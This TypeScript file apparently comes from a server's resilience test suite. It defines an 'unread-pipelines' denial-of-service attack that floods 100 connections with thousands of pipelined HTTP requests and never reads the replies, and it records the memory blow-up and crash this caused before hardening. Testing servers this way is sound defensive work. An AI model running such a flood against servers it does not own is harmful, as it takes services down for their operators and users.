import { setTimeout as pause } from 'node:timers/promises';
import { connectRaw } from '../../support/raw.ts';
import { attacker, volley, type Attack } from '../attack.ts';

const CONNECTIONS = 100;
const REQUESTS = 3000;
const EVERY_SECONDS = 3;
const PIPELINE = 'GET / HTTP/1.1\r\nHost:a\r\n\r\n'.repeat(REQUESTS);

/** Thousands of requests in one piece on many connections, none of whose answers is read. */
export const UNREAD_PIPELINES: Attack = {
  name: 'unread-pipelines',
  says: `${REQUESTS} requests for a page in one piece on each of ${CONNECTIONS} connections, nothing read; anew every ${EVERY_SECONDS} s`,
  before: '173 → 1,463 MB, `/healthz` 4.7 s; a heap of 96 MB was dead in 1 s',
  strike: (target) =>
    volley(target, CONNECTIONS / EVERY_SECONDS, async (number) => {
      const connection = await connectRaw(target.address, attacker(Math.floor(number / CONNECTIONS)));
      connection.pause();
      connection.write(PIPELINE);
      await Promise.race([connection.closed, pause(EVERY_SECONDS * 1000)]);
      connection.cut();
    }),
};
